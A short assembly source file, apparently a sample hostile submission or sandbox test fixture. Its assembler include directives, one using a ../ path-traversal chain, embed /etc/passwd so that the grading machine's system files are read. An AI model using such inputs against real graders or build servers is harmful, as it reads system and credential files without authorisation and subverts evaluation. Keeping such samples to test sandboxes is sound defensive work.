# Wants to see what is on the machine that grades.
.include "/etc/passwd"
.include "../../../../../../etc/passwd"
.globl _start
_start:
    .incbin "/etc/passwd"
